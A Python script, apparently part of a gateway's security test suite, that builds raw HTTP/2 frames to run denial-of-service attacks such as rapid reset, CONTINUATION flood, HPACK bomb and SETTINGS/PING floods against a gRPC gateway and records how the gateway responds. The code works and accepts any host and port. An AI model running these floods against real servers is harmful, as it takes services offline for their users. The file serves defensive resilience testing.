"""Hand-built HTTP/2 attacks on raw sockets, run in their own process (so the attacker's
Python never competes for the test's GIL with the legitimate grpcio client it is measured
against):

    python h2attacks.py ATTACK HOST:PORT SECONDS [JSON-ARGS]

prints one JSON line: what was sent and what the gateway answered (GOAWAY codes, resets,
connections it closed). Frames are built by hand (RFC 9113 section 4.1) because an HTTP/2
library refuses to produce most of them; header blocks are HPACK literals without indexing,
so one block can be reused on any connection whatever its HPACK state.
"""
from __future__ import annotations

import json
import random
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4

ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
               8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
               12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}

PREDICT = "/byoc.v1.Inference/Predict"


# ---------------------------------------------------------------------------- frames

def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def settings(*entries: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in entries))


def window_update(stream_id: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def rst_stream(stream_id: int, code: int = 8) -> bytes:
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping(opaque: int) -> bytes:
    return frame(PING, 0, 0, struct.pack(">Q", opaque))


def grpc_message(message: bytes, declared: int | None = None) -> bytes:
    """A gRPC length-prefixed message; `declared` lies about its length."""
    return struct.pack(">BI", 0, len(message) if declared is None else declared) + message


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name: bytes, value: bytes) -> bytes:
    """A literal header field without indexing, new name, no Huffman coding."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(address: str, path: str = PREDICT, model: str | None = "iris", version: str = "1",
                  extra: list[tuple[str, str]] = ()) -> bytes:
    """A gRPC request header block; `model` adds byoc-model/byoc-version (routing by header,
    so the gateway opens the upstream stream before any body)."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if model is not None:
        fields += [("byoc-model", model), ("byoc-version", version)]
    fields += list(extra)
    return b"".join(hpack_literal(n.encode(), v.encode()) for n, v in fields)


# ---------------------------------------------------------------------------- connection

class Conn:
    """One attacking connection: sends what it is given, reads (when asked) and parses what
    the gateway sends back, counting GOAWAYs and resets."""

    def __init__(self, address: str, rcvbuf: int | None = None, handshake: bool = True, timeout: float = 5.0):
        host, port = address.rsplit(":", 1)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(timeout)
        self.sock.connect((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inbox = bytearray()
        self.goaway: int | None = None
        self.goaway_debug = b""
        self.resets: dict[int, int] = {}
        self.closed = False  # the gateway closed it (EOF or reset on read)
        self.broken = False  # a send failed: the gateway closed it or stopped reading
        self.next_stream = 1
        # Every frame received, when set (to read answers); else only GOAWAYs and resets count.
        self.frames: list[tuple[int, int, int, bytes]] | None = None
        # When set, every HEADERS block is decoded and its grpc-status counted in `statuses`.
        self.decoder: hpack.Decoder | None = None
        self.statuses: dict[str, int] = {}
        if handshake:
            self.send(PREFACE + settings())

    def send(self, data: bytes) -> bool:
        """False once the gateway has closed the connection (or stopped reading for `timeout`);
        what it sent before closing can still be read."""
        if self.closed or self.broken:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            self.broken = True
            return False

    def new_stream(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def read(self, timeout: float = 0.0) -> None:
        """Reads what is there (waiting up to `timeout` for the first bytes), parses frames."""
        if self.closed:
            return
        deadline = time.monotonic() + timeout
        while True:
            left = max(0.0, deadline - time.monotonic())
            poller = select.poll()  # not select(): descriptors above 1024 (thousands of connections)
            poller.register(self.sock, select.POLLIN)
            if not poller.poll(left * 1000):
                return
            try:
                chunk = self.sock.recv(1 << 20, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return
            except (ConnectionResetError, OSError):
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.inbox += chunk
            self._parse()
            deadline = time.monotonic()  # after the first read: only what is already there

    def _parse(self) -> None:
        while len(self.inbox) >= 9:
            length = int.from_bytes(self.inbox[0:3], "big")
            if len(self.inbox) < 9 + length:
                return
            kind, flags, sid = self.inbox[3], self.inbox[4], int.from_bytes(self.inbox[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbox[9:9 + length])
            del self.inbox[:9 + length]
            if self.frames is not None:
                self.frames.append((kind, flags, sid, payload))
            if self.decoder is not None and kind == HEADERS:
                for name, value in self.decoder.decode(payload, raw=True):
                    if name == b"grpc-status":
                        self.statuses[value.decode()] = self.statuses.get(value.decode(), 0) + 1
            if kind == GOAWAY and length >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.goaway_debug = payload[8:200]
            elif kind == RST_STREAM and length == 4:
                code = int.from_bytes(payload, "big")
                self.resets[code] = self.resets.get(code, 0) + 1

    def wait_closed(self, timeout: float) -> bool:
        """Reads until the gateway closes the connection; True when it did within `timeout`."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.read(min(0.1, max(0.0, deadline - time.monotonic())))
        return self.closed

    def close(self) -> None:
        self.closed = True
        self.sock.close()


class Tally:
    """What one attack run saw, printed as JSON."""

    def __init__(self, **fields):
        self.fields = {"connections": 0, "frames": 0, "closed_by_gateway": 0, "goaway": {}, "resets": {}, **fields}

    def conn_done(self, conn: Conn, linger: float = 0.5) -> None:
        """Reads what the gateway still sent (up to `linger` s for it to close), then counts."""
        if conn.broken:
            conn.wait_closed(linger)
        else:
            conn.read(0.0)
        if conn.goaway is not None:
            name = ERROR_NAMES.get(conn.goaway, str(conn.goaway))
            self.fields["goaway"][name] = self.fields["goaway"].get(name, 0) + 1
            self.fields.setdefault("goaway_debug", conn.goaway_debug.decode("utf-8", "replace"))
        for code, count in conn.resets.items():
            name = ERROR_NAMES.get(code, str(code))
            self.fields["resets"][name] = self.fields["resets"].get(name, 0) + count
        if conn.closed:
            self.fields["closed_by_gateway"] += 1
        for status, count in conn.statuses.items():
            self.fields.setdefault("statuses", {})[status] = self.fields.setdefault("statuses", {}).get(status, 0) + count
            self.add("answered", count)
        conn.close()

    def __setitem__(self, key, value):
        self.fields[key] = value

    def add(self, key: str, n: int = 1) -> None:
        self.fields[key] = self.fields.get(key, 0) + n


def flood(address: str, seconds: float, tally: Tally, setup, unit, batch: int, rcvbuf: int | None = None,
          read: bool = True, send_timeout: float = 5.0) -> None:
    """Sends `batch` frames made by `unit(conn)` at a time on one connection for `seconds`;
    `setup(conn)` runs once per connection. When the gateway closes it, a new one follows.
    `read=False` never reads (a client whose receive window the gateway fills)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        conn = Conn(address, rcvbuf=rcvbuf, timeout=send_timeout)
        tally.add("connections")
        setup(conn)
        while not conn.closed and not conn.broken and time.monotonic() < deadline:
            if not conn.send(b"".join(unit(conn) for _ in range(batch))):
                break
            tally.add("frames", batch)
            if read:
                conn.read(0.0)
        if not conn.closed and read:
            conn.read(0.2)
        tally.conn_done(conn)


# ---------------------------------------------------------------------------- attacks

def rapid_reset(address: str, seconds: float, args: dict) -> dict:
    """CVE-2023-44487: HEADERS (routed by header: the gateway opens the upstream stream at once)
    then RST_STREAM, as fast as the socket takes them."""
    tally = Tally()
    block = request_block(address)

    def unit(conn: Conn) -> bytes:
        sid = conn.new_stream()
        if sid > 0x7FFFFFF0:
            conn.broken = True
        return frame(HEADERS, END_HEADERS, sid, block) + rst_stream(sid)

    flood(address, seconds, tally, lambda c: None, unit, batch=100)
    return tally.fields


def continuation_flood(address: str, seconds: float, args: dict) -> dict:
    """CVE-2024-28182: HEADERS without END_HEADERS, then CONTINUATION frames forever (each a
    small literal field), on one stream."""
    tally = Tally()
    block = request_block(address)
    piece = hpack_literal(b"x-flood", b"y" * 16)

    def setup(conn: Conn) -> None:
        conn.stream = conn.new_stream()
        conn.send(frame(HEADERS, 0, conn.stream, block))

    flood(address, seconds, tally, setup, lambda c: frame(CONTINUATION, 0, c.stream, piece), batch=50)
    return tally.fields


def hpack_bomb(address: str, seconds: float, args: dict) -> dict:
    """A 4,000-byte value inserted into the HPACK dynamic table once per connection, then
    header blocks referencing it 4,000 times each (16 MB of header list from 4 KB of frame),
    and header blocks of 1,000 distinct fields (a huge header list). Counts the grpc-status of
    the answers (`statuses`)."""
    tally = Tally()
    base = request_block(address)
    insert = b"\x40" + hpack_int(6, 7) + b"x-bomb" + hpack_int(4000, 7) + b"b" * 4000  # incremental indexing: index 62
    refs = b"\xbe" * 4000  # indexed field 62, 4,000 times
    many = b"".join(hpack_literal(b"x-h%d" % i, b"v") for i in range(1000))

    def setup(conn: Conn) -> None:
        sid = conn.new_stream()
        conn.decoder = hpack.Decoder()
        conn.decoder.max_allowed_table_size = 65536
        conn.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, base + insert))
        conn.bomb = 0

    def unit(conn: Conn) -> bytes:
        conn.bomb += 1
        payload = base + (refs if conn.bomb % 2 else many)
        return frame(HEADERS, END_HEADERS | END_STREAM, conn.new_stream(), payload)

    flood(address, seconds, tally, setup, unit, batch=4)
    return tally.fields


def settings_flood(address: str, seconds: float, args: dict) -> dict:
    """SETTINGS frames (each owing an ACK) from a client that never reads, with a tiny
    receive buffer: the ACKs pile up on the gateway's side."""
    tally = Tally()
    unit = lambda c: settings((0x4, 65535), (0x3, 100))  # INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS
    flood(address, seconds, tally, lambda c: None, unit, batch=200, rcvbuf=4096, read=False, send_timeout=1.0)
    return tally.fields


def ping_flood(address: str, seconds: float, args: dict) -> dict:
    """PING frames (each owing a PING ACK) from a client that never reads."""
    tally = Tally()
    counter = iter(range(1 << 62))
    flood(address, seconds, tally, lambda c: None, lambda c: ping(next(counter)), batch=200, rcvbuf=4096,
          read=False, send_timeout=1.0)
    return tally.fields


def open_routed_stream(conn: Conn, address: str) -> None:
    conn.stream = conn.new_stream()
    conn.send(frame(HEADERS, END_HEADERS, conn.stream, request_block(address)))


def empty_data_flood(address: str, seconds: float, args: dict) -> dict:
    """Zero-length DATA frames without END_STREAM on an open (routed) stream: each costs the
    gateway a frame and moves nothing."""
    tally = Tally()
    flood(address, seconds, tally, lambda c: open_routed_stream(c, address),
          lambda c: frame(DATA, 0, c.stream, b""), batch=500)
    return tally.fields


def window_update_flood(address: str, seconds: float, args: dict) -> dict:
    """WINDOW_UPDATE frames of increment 1 on the connection and on an open stream."""
    tally = Tally()

    def unit(conn: Conn) -> bytes:
        conn.flip = not getattr(conn, "flip", False)
        return window_update(0 if conn.flip else conn.stream, 1)

    flood(address, seconds, tally, lambda c: open_routed_stream(c, address), unit, batch=500)
    return tally.fields


def window_overflow(address: str, seconds: float, args: dict) -> dict:
    """Window overflow, on connection after connection: a stream's window beyond 2^31-1 (must
    be RST_STREAM FLOW_CONTROL_ERROR for that stream, the connection going on), then the
    connection's (must be GOAWAY FLOW_CONTROL_ERROR and the connection closed)."""
    tally = Tally(without_goaway=0, without_reset=0)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        conn = Conn(address)
        tally.add("connections")
        open_routed_stream(conn, address)
        conn.send(window_update(conn.stream, 0x7FFFFFFF))
        tally.add("frames")
        reset_by = time.monotonic() + 5.0
        while not conn.resets and not conn.closed and time.monotonic() < reset_by:
            conn.read(0.1)
        if not conn.resets.get(3):
            tally.add("without_reset")
        conn.send(window_update(0, 0x7FFFFFFF))
        tally.add("frames")
        conn.wait_closed(5.0)
        if conn.goaway is None:
            tally.add("without_goaway")
        tally.conn_done(conn)
    return tally.fields


def garbage_after_preface(address: str, seconds: float, args: dict) -> dict:
    """`count` connections at once, each sending the client preface and then random bytes
    (seeded; 1 to 64 bytes for a quarter of them, up to 4 KiB for the rest); each must be
    closed with GOAWAY. Reports how long the slowest took and the ones still open after
    `open_limit` seconds (with their bytes)."""
    rng = random.Random(args.get("seed", 18))
    count, open_limit = args.get("count", 200), args.get("open_limit", 3.0)
    tally = Tally(slowest_s=0.0, still_open=[], without_goaway=0)
    conns = []
    for i in range(count):
        garbage = rng.randbytes(rng.randint(1, 64) if i % 4 == 0 else rng.randint(65, 4096))
        conn = Conn(address, handshake=False)
        conn.send(PREFACE + garbage)
        conns.append((conn, garbage, time.monotonic()))
        tally.add("connections")
    pending = list(conns)
    deadline = time.monotonic() + open_limit
    while pending and time.monotonic() < deadline:
        ready, _, _ = select.select([c.sock for c, _, _ in pending], [], [], 0.1)
        for conn, garbage, started in list(pending):
            if conn.sock in ready:
                conn.read(0.0)
                if conn.closed:
                    tally["slowest_s"] = max(tally.fields["slowest_s"], time.monotonic() - started)
                    pending.remove((conn, garbage, started))
    for conn, garbage, _ in conns:
        if not conn.closed:
            tally.fields["still_open"].append(garbage[:16].hex())
        elif conn.goaway is None:
            tally.add("without_goaway")
        tally.conn_done(conn)
    return tally.fields


def lying_length_prefixes(address: str, seconds: float, args: dict) -> dict:
    """Calls whose gRPC length prefix lies, one after another on fresh connections: a length
    over the message limit (body and header routing), and a length longer than the body,
    then END_STREAM. Counts the grpc-status of each answer (or a hang/reset)."""
    tally = Tally(statuses={}, hangs=0)
    deadline = time.monotonic() + seconds
    body = b"\x0a\x04iris\x12\x011"  # PredictRequest{model: "iris", version: "1"}
    cases = [
        ("over-limit-body-routed", None, grpc_message(body, declared=0xFFFFFFFF)),
        ("over-limit-header-routed", "iris", grpc_message(body, declared=0xFFFFFFFF)),
        ("longer-than-body-body-routed", None, grpc_message(body, declared=1000)),
        ("longer-than-body-header-routed", "iris", grpc_message(body, declared=1000)),
        ("prefix-cut-short", None, grpc_message(body)[:3]),
    ]
    i = 0
    while time.monotonic() < deadline:
        name, model, data = cases[i % len(cases)]
        i += 1
        conn = Conn(address)
        tally.add("connections")
        sid = conn.new_stream()
        block = request_block(address, model=model, extra=[("grpc-timeout", "10S")])
        conn.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, data))
        status = _wait_status(conn, sid, 10.0)
        key = f"{name}: {status}"
        tally.fields["statuses"][key] = tally.fields["statuses"].get(key, 0) + 1
        if status == "hang":
            tally.add("hangs")
        tally.conn_done(conn)
    return tally.fields


def _wait_status(conn: Conn, sid: int, timeout: float) -> str:
    """The grpc-status (as text) the gateway answers on `sid`, 'reset CODE', or 'hang'. Header
    blocks are decoded with hpack (the gateway's blocks use its dynamic table, so one decoder
    serves every call on the connection)."""
    decoder = getattr(conn, "status_decoder", None)
    if decoder is None:
        decoder = conn.status_decoder = hpack.Decoder()
        decoder.max_allowed_table_size = 65536
    conn.frames = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        conn.read(0.1)
        while conn.frames:
            kind, _, fsid, payload = conn.frames.pop(0)
            if kind == HEADERS:
                for name, value in decoder.decode(payload, raw=True):
                    if fsid == sid and name == b"grpc-status":
                        return value.decode()
            elif kind == RST_STREAM and fsid == sid:
                return f"reset {ERROR_NAMES.get(int.from_bytes(payload, 'big'))}"
            elif kind == GOAWAY:
                return f"goaway {ERROR_NAMES.get(int.from_bytes(payload[4:8], 'big'))}"
        if conn.closed:
            return "closed"
    return "hang"


def idle_streams(address: str, seconds: float, args: dict) -> dict:
    """`connections` connections each open `streams` streams (HEADERS without END_STREAM) and
    never send DATA; every other stream names model `model` by header (routed at once), the
    rest name nothing (routed by a first message that never comes). They are held (the
    connections read, so the gateway's frames flow) for `seconds`; counts what the gateway
    did to them."""
    count, per, model = args.get("connections", 10), args.get("streams", 256), args.get("model", "iris")
    tally = Tally(streams=0, answered=0)
    named = request_block(address, model=model)
    unnamed = request_block(address, model=None)
    conns = []
    for _ in range(count):
        conn = Conn(address)
        tally.add("connections")
        burst = []
        for i in range(per):
            burst.append(frame(HEADERS, END_HEADERS, conn.new_stream(), named if i % 2 == 0 else unnamed))
        conn.send(b"".join(burst))
        tally.add("streams", per)
        tally.add("frames", per)
        conns.append(conn)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for conn in conns:
            conn.read(0.0)
        time.sleep(0.05)
    for conn in conns:
        tally.conn_done(conn)
    return tally.fields


def idle_connections(address: str, seconds: float, args: dict) -> dict:
    """`count` connections that send a valid preface and SETTINGS, then nothing, held for
    `seconds` (reading what the gateway sends); counts those the gateway closed."""
    count = args.get("count", 2000)
    tally = Tally()
    conns = []
    for _ in range(count):
        conns.append(Conn(address))
        tally.add("connections")
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for conn in conns:
            conn.read(0.0)
        time.sleep(0.1)
    for conn in conns:
        tally.conn_done(conn)
    return tally.fields


def unknown_frame_flood(address: str, seconds: float, args: dict) -> dict:
    """Frames of unknown types, which HTTP/2 says to ignore: type 0xfa empty on the
    connection, and type 0x20 with a 64-byte payload on stream 1, alternately. Each moves
    nothing, so each takes a token of the control-frame budget."""
    tally = Tally()
    units = [frame(0xFA, 0, 0), frame(0x20, 0, 1, b"u" * 64)]

    def unit(conn: Conn) -> bytes:
        conn.sent_unknown = getattr(conn, "sent_unknown", 0) + 1
        return units[conn.sent_unknown % 2]

    flood(address, seconds, tally, lambda c: None, unit, batch=500)
    return tally.fields


def stalled_first_messages(address: str, seconds: float, args: dict) -> dict:
    """`connections` connections each open `calls` Predict calls routed by header to `model`
    (so the gateway knows the model at once), send the first `sent` bytes of a first message
    that declares `declared` bytes (1 MiB), and then nothing; held for `seconds` while reading,
    so the gateway's answers arrive. Counts the grpc-status of each answer (`statuses`) and
    the seconds until the first and last (`first_answer_s`, `last_answer_s`)."""
    count, calls = args.get("connections", 5), args.get("calls", 10)
    sent, declared, model = args.get("sent", 200 << 10), args.get("declared", 1 << 20), args.get("model", "iris")
    tally = Tally(calls=0, statuses={})
    block = request_block(address, model=model, extra=[("grpc-timeout", "120S")])
    prefix = struct.pack(">BI", 0, declared) + b"\x0a" + bytes([len(model)]) + model.encode() + b"\x12\x011"
    partial = (prefix + b"\x00" * sent)[:sent]
    conns = []
    started = time.monotonic()
    for _ in range(count):
        conn = Conn(address)
        tally.add("connections")
        conn.read(1.0)
        conn.send(frame(SETTINGS, ACK, 0))  # the gateway's 1 MiB stream window applies from here
        conn.decoder = hpack.Decoder()
        conn.decoder.max_allowed_table_size = 65536
        for _ in range(calls):
            sid = conn.new_stream()
            out = frame(HEADERS, END_HEADERS, sid, block)
            for i in range(0, len(partial), 16384):
                out += frame(DATA, 0, sid, partial[i:i + 16384])
            conn.send(out)
            tally.add("calls")
        conns.append(conn)
    first = last = None
    answered = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for conn in conns:
            conn.read(0.0)
        now_answered = sum(sum(c.statuses.values()) for c in conns)
        if now_answered > answered:
            last = time.monotonic() - started
            first = first if first is not None else last
            answered = now_answered
        time.sleep(0.02)
    tally["first_answer_s"] = None if first is None else round(first, 2)
    tally["last_answer_s"] = None if last is None else round(last, 2)
    for conn in conns:
        tally.conn_done(conn)
    return tally.fields


REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


def reflection_never_read(address: str, seconds: float, args: dict) -> dict:
    """One reflection stream carrying `requests` requests (file_containing_symbol
    byoc.v1.Admin: a descriptor of some KiB each; or list_services) from a client that
    advertises a 64-byte stream window and a 4 KiB receive buffer and reads nothing for
    `seconds`. Then it opens its windows and reads for up to 15 s, counting the responses
    (`answered`): the gateway must have paused handling, not dropped the requests."""
    count, kind = args.get("requests", 20000), args.get("kind", "symbol")
    tally = Tally(requests=count, answered=0)
    symbol = b"byoc.v1.Admin"
    request = b"\x22" + bytes([len(symbol)]) + symbol if kind == "symbol" else b"\x3a\x00"
    body = grpc_message(request) * count
    conn = Conn(address, rcvbuf=4096, handshake=False)
    tally.add("connections")
    conn.send(PREFACE + settings((0x4, 64)))  # SETTINGS_INITIAL_WINDOW_SIZE 64
    # The gateway's stream window (1 MiB) applies once its SETTINGS are acknowledged.
    conn.read(1.0)
    conn.send(frame(SETTINGS, ACK, 0))
    sid = conn.new_stream()
    conn.send(frame(HEADERS, END_HEADERS, sid, request_block(address, path=REFLECTION, model=None)))
    for i in range(0, len(body), 16384):
        conn.send(frame(DATA, 0, sid, body[i:i + 16384]))
        tally.add("frames")
    time.sleep(seconds)
    # Now a client that reads: windows open (stream windows through SETTINGS), responses counted.
    conn.send(settings((0x4, 0x7FFFFFFF)) + window_update(0, 0x7FFFFFFF - 65535))
    buffer, offset, pending = bytearray(), 0, bytearray()
    deadline = time.monotonic() + 15.0
    while tally.fields["answered"] < count and time.monotonic() < deadline and not conn.closed:
        poller = select.poll()
        poller.register(conn.sock, select.POLLIN)
        if not poller.poll(200):
            continue
        try:
            chunk = conn.sock.recv(1 << 20)
        except OSError:
            chunk = b""
        if not chunk:
            conn.closed = True
            break
        buffer += chunk
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset:offset + 3], "big")
            if len(buffer) - offset < 9 + length:
                break
            kind_byte, fsid = buffer[offset + 3], int.from_bytes(buffer[offset + 5:offset + 9], "big") & 0x7FFFFFFF
            payload = buffer[offset + 9:offset + 9 + length]
            offset += 9 + length
            if kind_byte == DATA and fsid == sid:
                pending += payload
                # Count whole gRPC messages (5-byte prefix + body) and drop them.
                at = 0
                while len(pending) - at >= 5:
                    size = int.from_bytes(pending[at + 1:at + 5], "big")
                    if len(pending) - at < 5 + size:
                        break
                    at += 5 + size
                    tally.add("answered")
                del pending[:at]
            elif kind_byte == RST_STREAM and length == 4:
                name = ERROR_NAMES.get(int.from_bytes(payload, "big"))
                tally.fields["resets"][name] = tally.fields["resets"].get(name, 0) + 1
            elif kind_byte == GOAWAY and length >= 8:
                conn.goaway = int.from_bytes(payload[4:8], "big")
        del buffer[:offset]
        offset = 0
    tally.conn_done(conn)
    return tally.fields


ATTACKS = {f.__name__: f for f in [rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
                                   empty_data_flood, window_update_flood, window_overflow,
                                   garbage_after_preface, lying_length_prefixes, idle_streams, idle_connections, unknown_frame_flood,
                                   reflection_never_read, stalled_first_messages]}


if __name__ == "__main__":
    attack, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    extra = json.loads(sys.argv[4]) if len(sys.argv) > 4 else {}
    started = time.monotonic()
    result = ATTACKS[attack](address, seconds, extra)
    result["seconds"] = round(time.monotonic() - started, 2)
    print(json.dumps(result), flush=True)
